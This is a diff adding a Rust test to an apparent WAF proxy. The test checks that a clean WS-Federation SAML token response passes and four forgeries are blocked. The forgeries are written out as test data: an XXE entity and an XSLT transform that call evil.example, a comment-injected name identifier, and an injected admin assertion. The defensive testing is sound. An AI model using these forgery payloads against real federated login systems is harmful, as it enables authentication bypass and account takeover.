@@ -659,6 +659,86 @@ fn a_forged_saml_response_that_keeps_its_signature_is_blocked() {
     assert_eq!(origin.seen()[0].body, clean.as_bytes());
 }
 
+/// A WS-Federation token response, as an identity provider federated over WS-Fed posts it: a
+/// WS-Trust envelope around one signed SAML 1.1 assertion for `name`, as XML text. `before`
+/// goes in front of the assertion, and `transforms` are the signature's.
+fn ws_fed_response(before: &str, name: &str, transforms: &str) -> String {
+    format!(
+        r##"<t:RequestSecurityTokenResponse xmlns:t="http://schemas.xmlsoap.org/ws/2005/02/trust"><t:Lifetime><wsu:Created xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd">2024-05-20T09:41:07.118Z</wsu:Created><wsu:Expires xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd">2024-05-20T10:41:07.118Z</wsu:Expires></t:Lifetime><wsp:AppliesTo xmlns:wsp="http://schemas.xmlsoap.org/ws/2004/09/policy"><wsa:EndpointReference xmlns:wsa="http://www.w3.org/2005/08/addressing"><wsa:Address>urn:federation:MicrosoftOnline</wsa:Address></wsa:EndpointReference></wsp:AppliesTo><t:RequestedSecurityToken>{before}<saml:Assertion MajorVersion="1" MinorVersion="1" AssertionID="_a1" Issuer="http://sts.fabrikam.com/adfs/services/trust" IssueInstant="2024-05-20T09:41:07.118Z" xmlns:saml="urn:oasis:names:tc:SAML:1.0:assertion"><saml:Conditions NotBefore="2024-05-20T09:41:07.118Z" NotOnOrAfter="2024-05-20T10:41:07.118Z"><saml:AudienceRestrictionCondition><saml:Audience>urn:federation:MicrosoftOnline</saml:Audience></saml:AudienceRestrictionCondition></saml:Conditions><saml:AttributeStatement><saml:Subject><saml:NameIdentifier Format="urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified">{name}</saml:NameIdentifier><saml:SubjectConfirmation><saml:ConfirmationMethod>urn:oasis:names:tc:SAML:1.0:cm:bearer</saml:ConfirmationMethod></saml:SubjectConfirmation></saml:Subject><saml:Attribute AttributeName="displayname" AttributeNamespace="http://schemas.xmlsoap.org/claims"><saml:AttributeValue>Zoë O'Brien (Sales &amp; Marketing)</saml:AttributeValue></saml:Attribute><saml:Attribute AttributeName="ImmutableID" AttributeNamespace="http://schemas.microsoft.com/LiveID/Federation/2008/05"><saml:AttributeValue>Xk2mB8wq0kOzZr3hL6a9Vg==</saml:AttributeValue></saml:Attribute></saml:AttributeStatement><saml:AuthenticationStatement AuthenticationMethod="urn:oasis:names:tc:SAML:1.0:am:password" AuthenticationInstant="2024-05-20T09:41:05.000Z"><saml:Subject><saml:NameIdentifier Format="urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified">{name}</saml:NameIdentifier></saml:Subject></saml:AuthenticationStatement><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/><ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/><ds:Reference URI="#_a1"><ds:Transforms>{transforms}</ds:Transforms><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>bm90IGEgZGlnZXN0</ds:DigestValue></ds:Reference></ds:SignedInfo><ds:SignatureValue>bm90IGEgc2lnbmF0dXJl</ds:SignatureValue></ds:Signature></saml:Assertion></t:RequestedSecurityToken><t:TokenType>urn:oasis:names:tc:SAML:1.0:assertion</t:TokenType><t:RequestType>http://schemas.xmlsoap.org/ws/2005/02/trust/Issue</t:RequestType><t:KeyType>http://schemas.xmlsoap.org/ws/2005/05/identity/NoProofKey</t:KeyType></t:RequestSecurityTokenResponse>"##
+    )
+}
+
+/// WS-Federation posts its token response (`wresult`) as XML text, where SAML posts base64. A
+/// clean one was blocked: the injection rules read its tags as XSS and the `"#_a1"` of its
+/// signature's reference as an SQL comment. Its forgeries were blocked too, but by chance, by
+/// whichever of those rules fired first. The XML rules read it now: the clean response reaches
+/// the origin byte for byte, and each forgery is blocked by the rule for its kind.
+#[test]
+fn a_ws_federation_token_response_passes_and_its_forgeries_are_blocked() {
+    use percent_encoding::{utf8_percent_encode, NON_ALPHANUMERIC};
+    let origin = Origin::start();
+    let proxy = Proxy::start(
+        &origin,
+        Setup {
+            extra_top: "audit: {path: \"{dir}/audit.jsonl\"}\n".into(),
+            // A token response is several kilobytes of XML, three times that percent-encoded:
+            // the default limit, not the tests' small one.
+            max_body: 65536,
+            ..Setup::default()
+        },
+    );
+    let endpoint = "/contoso.onmicrosoft.com/login.srf";
+    let form = |xml: &str| {
+        format!(
+            "wa=wsignin1.0&wresult={}&wctx=LoginOptions%3D3%26estsredirect%3D2%26estsrequest%3DrQQIARAA42KwMswoKSkottLXLy8v1ytKTc7ILy7JzytOzSvRS87PzU1Nzs8rKUpN0StJLS4JzcssTsxLzSvJzEnMSwQA0",
+            utf8_percent_encode(xml, NON_ALPHANUMERIC)
+        )
+    };
+    let usual = r##"<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>"##;
+    let user = "zoe.obrien@fabrikam.com";
+    let forged_assertion = r##"<saml:Assertion MajorVersion="1" MinorVersion="1" AssertionID="_evil" xmlns:saml="urn:oasis:names:tc:SAML:1.0:assertion"><saml:AttributeStatement><saml:Subject><saml:NameIdentifier>admin@contoso.com</saml:NameIdentifier></saml:Subject></saml:AttributeStatement></saml:Assertion>"##;
+    let xslt = r##"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="document('http://evil.example/x')"/></xsl:template></xsl:stylesheet></ds:Transform>"##;
+    let forged = [
+        (
+            "146100",
+            form(&format!(
+                r#"<!DOCTYPE t [<!ENTITY name SYSTEM "http://evil.example/x">]>{}"#,
+                ws_fed_response("", "&name;", usual)
+            )),
+        ),
+        (
+            "146120",
+            form(&ws_fed_response(
+                "",
+                "admin@contoso.com<!---->.evil.example",
+                usual,
+            )),
+        ),
+        (
+            "146130",
+            form(&ws_fed_response(forged_assertion, user, usual)),
+        ),
+        ("146140", form(&ws_fed_response("", user, xslt))),
+    ];
+    for (_, body) in &forged {
+        let r = proxy.post(endpoint, "application/x-www-form-urlencoded", body);
+        r.assert_block_page();
+    }
+    assert!(origin.seen().is_empty(), "{:?}", origin.seen());
+    let blocked_by: Vec<String> = proxy
+        .audit()
+        .iter()
+        .map(|line| line["rules"][0]["id"].to_string())
+        .collect();
+    let expected: Vec<&str> = forged.iter().map(|(rule, _)| *rule).collect();
+    assert_eq!(blocked_by, expected);
+    let clean = form(&ws_fed_response("", user, usual));
+    let r = proxy.post(endpoint, "application/x-www-form-urlencoded", &clean);
+    assert_eq!(r.status, 200, "{}", r.raw);
+    assert_eq!(origin.seen().len(), 1);
+    assert_eq!(origin.seen()[0].body, clean.as_bytes());
+}
+
 #[test]
 fn detect_only_forwards_attacks_and_logs_them() {
     let origin = Origin::start();
